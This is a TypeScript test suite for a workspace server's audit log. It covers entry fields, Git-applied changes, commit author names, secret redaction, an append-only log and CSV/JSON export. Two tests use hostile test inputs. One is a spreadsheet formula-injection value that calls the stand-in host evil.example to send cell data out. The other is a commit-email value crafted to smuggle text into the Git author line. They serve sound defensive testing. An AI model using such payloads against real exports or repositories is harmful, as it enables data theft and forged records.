import { sql } from 'kysely'
import { afterAll, beforeAll, expect, it } from 'vitest'
import type { AuditEntry, AuditFacets } from '../../src/core/wire/audit.ts'
import { noteIntent, tellCutOff } from '../../src/store/audit-intents.ts'
import { commitChangeSet } from '../../src/store/change-sets.ts'
import { type ConnectedWorkspace, connectedWorkspace, USERS } from '../support/connected-workspace.ts'
import { headOf, plainGit } from '../support/git-bare.ts'
import { ADMIN, startTestServer, type TestServer } from '../support/server.ts'

let server: TestServer
let shop: ConnectedWorkspace
beforeAll(async () => {
  server = await startTestServer()
  shop = await connectedWorkspace(server, 'shop')
})
afterAll(() => server.stop())

const AUDIT = '/workspaces/shop/audit'

async function entries(query: Record<string, string> = {}): Promise<AuditEntry[]> {
  const { status, body } = await server.ask('GET', `${AUDIT}?${new URLSearchParams(query)}`)
  expect(status).toBe(200)
  return (body as { items: AuditEntry[] }).items // the answer that the contract names
}

const save = (value: object, headers: Record<string, string> = {}, token?: null) =>
  server.ask('PUT', '/workspaces/shop/parent-models/users', {
    body: value,
    headers: { 'if-match': '*', ...headers },
    ...(token === undefined ? {} : { token }),
  })

it('[Z8] an entry says who, when, from where, before and after by field, and the run and commit that it went by', async () => {
  const signedIn = await server.ask('POST', '/auth/sign-in/email', { body: ADMIN, token: null })
  const cookie = signedIn.headers.getSetCookie().map((one) => one.split(';')[0]).join('; ') // biome-ignore format: one line
  const before = Date.now() - 1000
  await save({ ...USERS, description: 'By page' }, { cookie }, null)
  await save({ ...USERS, description: 'By key' })
  await save({ ...USERS, description: 'By command' }, { 'user-agent': 'tandem-cli' })
  await shop.sync()
  const head = await headOf(shop.remote)
  const [byCommand, byKey, byPage] = await entries({ resource: 'users' })
  expect(byPage).toEqual({
    id: expect.any(String),
    at: expect.any(String),
    actor: { id: expect.any(String), name: 'Ann' },
    action: 'resource.save',
    subject: 'parent-models/users',
    detail: null,
    origin: 'page',
    address: '127.0.0.1',
    run: expect.any(String),
    commit: expect.any(String),
    changes: [{ resource: 'parent-models/users', fields: [{ path: '/description', after: 'By page' }] }],
    omitted: 0,
  })
  expect(Date.parse(byPage?.at ?? '')).toBeGreaterThan(before)
  expect([byKey?.origin, byCommand?.origin, byCommand?.actor]).toEqual([
    'api-key',
    'cli',
    { id: 'key:admin-token', name: 'Admin token' },
  ])
  expect(byCommand?.changes[0]?.fields).toEqual([
    { path: '/description', before: 'By key', after: 'By command' },
  ])
  expect(byCommand?.commit).toBe(head)
})

it('[Z8] what comes in from Git is in the log by its author, with run and commit', async () => {
  await shop.person.pull()
  const file = 'schema/related-models/purchases.yaml'
  await shop.person.write(file, `${await shop.person.read(file)}description: Told in Git\n`)
  await shop.person.commit('Describe purchases')
  await shop.person.push()
  await shop.sync()
  const [applied] = await entries({ action: 'git.apply' })
  expect(applied).toMatchObject({
    origin: 'engine',
    address: null,
    commit: await headOf(shop.remote),
    run: expect.any(String),
    changes: [
      { resource: 'related-models/purchases', fields: [{ path: '/description', after: 'Told in Git' }] },
    ],
  })
})

it('[S7] [Z8] commits bear the name and address that the person chose, and nobody else may choose them', async () => {
  const signedIn = await server.ask('POST', '/auth/sign-in/email', { body: ADMIN, token: null })
  const cookie = signedIn.headers
    .getSetCookie()
    .map((one) => one.split(';')[0])
    .join('; ')
  const chosen = { name: 'Ann Lee', commitEmail: '7+ann@users.noreply.example.com' }
  const me = (body: object) => server.ask('PATCH', '/me', { body, token: null, headers: { cookie } })
  expect(await me(chosen)).toMatchObject({ status: 200, body: { actor: { email: ADMIN.email, ...chosen } } })
  expect((await me({ commitEmail: 'root@x> 1 +0000' })).status).toBe(422)
  expect((await server.ask('PATCH', '/me', { body: chosen })).status).toBe(403)
  await save({ ...USERS, description: 'By Ann Lee' }, { cookie }, null)
  await shop.sync()
  expect(await plainGit(shop.remote, ['log', '-1', '--format=%an <%ae>', 'main'])).toBe(
    'Ann Lee <7+ann@users.noreply.example.com>',
  )
  await me({ name: 'Ann', commitEmail: null })
  await save({ ...USERS, description: 'By Ann' }, { cookie }, null)
  await shop.sync()
  expect(await plainGit(shop.remote, ['log', '-1', '--format=%an <%ae>', 'main'])).toBe(
    `Ann <${ADMIN.email}>`,
  )
})

it('[Z8] [Z2] a secret that was given or taken out is told by its name alone', async () => {
  const at = '/workspaces/shop/sources/lake'
  const put = (config: object) =>
    server.ask('PUT', at, { body: { type: 'postgres', config }, headers: { 'if-match': '*' } })
  await put({ host: 'db', password: 'hunter2hunter2' })
  await put({ host: 'db', password: null })
  const [removed, set] = await entries({ resource: 'lake' })
  expect([set?.detail, removed?.detail]).toEqual([
    { secretsSet: ['sources/lake /password'] },
    { secretsRemoved: ['sources/lake /password'] },
  ])
  expect(JSON.stringify(await entries({ limit: '1000' }))).not.toContain('hunter2')
})

it('[Z8] what a server that ended did not come to write is written by the next that looks, once', async () => {
  const left = async () =>
    (await sql<{ n: number }>`select count(*)::int as n from audit_intent`.execute(server.db)).rows
  await save({ ...USERS, description: 'Whole' })
  await server.ask('PUT', '/workspaces/shop/parent-models/users', { body: USERS })
  expect(await left()).toEqual([{ n: 0 }])
  const workspace = await server.db
    .selectFrom('workspace')
    .select('id')
    .where('slug', '=', 'shop')
    .executeTakeFirstOrThrow()
  const actor = { id: 'key:cut', name: 'Cut off', email: 'cut@example.com' }
  await noteIntent(server.db, {
    workspaceId: workspace.id,
    actor,
    origin: 'api-key',
    address: '127.0.0.1',
    request: 'PUT /api/v1/workspaces/shop/parent-models/users',
  })
  const value = { ...USERS, description: 'Cut off' }
  const writes = [{ kind: 'parent-models', slug: 'users', value } as const]
  const empty = { kind: 'save', message: null, deletes: [], renames: [] } as const
  await commitChangeSet(server.db, { ...empty, workspaceId: workspace.id, actor, writes })
  await tellCutOff(server.db)
  expect(await entries({ action: 'request.cut-off' })).toEqual([])
  await sql`update audit_intent set created_at = created_at - interval '15 minutes'`.execute(server.db)
  await sql`update change_set set created_at = created_at - interval '15 minutes' where actor_id = 'key:cut'`.execute(
    server.db,
  )
  await Promise.all([tellCutOff(server.db), tellCutOff(server.db)])
  expect(await entries({ action: 'request.cut-off' })).toMatchObject([
    {
      actor: { id: 'key:cut', name: 'Cut off' },
      origin: 'api-key',
      subject: 'PUT /api/v1/workspaces/shop/parent-models/users',
      changes: [
        {
          resource: 'parent-models/users',
          fields: [{ path: '/description', before: 'Whole', after: 'Cut off' }],
        },
      ],
    },
  ])
})

it('[Z8] the log is filtered by person, action, resource and time, and names what it can be filtered by', async () => {
  const { body } = await server.ask('GET', `${AUDIT}/facets`)
  const { people, actions } = body as AuditFacets // the answer that the contract names
  const ann = people.find(({ name }) => name === 'Ann')?.id ?? ''
  expect(actions).toEqual(expect.arrayContaining(['resource.save', 'git.connect', 'git.apply']))
  expect(new Set((await entries({ person: ann })).map(({ actor }) => actor.id))).toEqual(new Set([ann]))
  const areas = (await entries({ action: 'git' })).map(({ action }) => action.split('.')[0])
  expect(new Set(areas)).toEqual(new Set(['git']))
  const [connected] = await entries({ action: 'git.connect' })
  expect(connected?.changes[0]?.fields).toContainEqual({ path: '/branch', after: 'main' })
  expect(await entries({ since: new Date(Date.now() + 60_000).toISOString() })).toEqual([])
  expect(await entries({ until: '2020-01-01T00:00:00Z' })).toEqual([])
  expect((await server.ask('GET', `${AUDIT}?since=yesterday`)).status).toBe(400)
  // A filter that is called something else would filter nothing.
  expect(await server.ask('GET', `${AUDIT}?from=2020-01-01T00:00:00Z`)).toMatchObject({
    status: 400,
    body: {
      code: 'invalid-query',
      detail: expect.stringMatching(/nothing is called from here\. Expected .*since/),
    },
  })
})

it('[Z8] nobody changes the log or takes an entry away, not even with the database at hand', async () => {
  const refused = 'The audit log is only ever added to.'
  for (const statement of [
    sql`update audit_log set actor_name = 'Mallory'`,
    sql`delete from audit_log`,
    sql`truncate audit_log`,
  ]) {
    await expect(statement.execute(server.db)).rejects.toThrow(refused)
  }
  for (const method of ['PUT', 'PATCH', 'DELETE', 'POST']) {
    expect((await server.ask(method, `${AUDIT}/1`, { body: {} })).status).toBe(404)
  }
})

it('[Z8] a name or SQL that a spreadsheet would run leaves the log as text, and JSON holds every entry', async () => {
  const evil = '=HYPERLINK("http://evil.example?"&A1)'
  await server.ask('POST', '/workspaces/shop/api-keys', { body: { name: evil, role: 'viewer' } })
  const csv = await server.ask('GET', `${AUDIT}/export?format=csv&action=api-key`)
  expect(csv.headers.get('content-disposition')).toBe('attachment; filename="audit-shop.csv"')
  const [headings, line, rest] = String(csv.body).split('\r\n')
  expect(headings).toBe(
    '"time","who","who (id)","origin","address","action","subject","detail","changes","run","commit"',
  )
  expect(line).toContain(`,"api-key.create","'=HYPERLINK(""http://evil.example?""&A1)",`)
  expect(rest).toBe('')
  const json = await server.ask('GET', `${AUDIT}/export?format=json`)
  expect(json.body).toEqual(await entries({ limit: '1000' }))
  const none = await server.ask('GET', `${AUDIT}/export?format=json&until=2020-01-01T00:00:00Z`)
  expect(none.body).toEqual([])
})
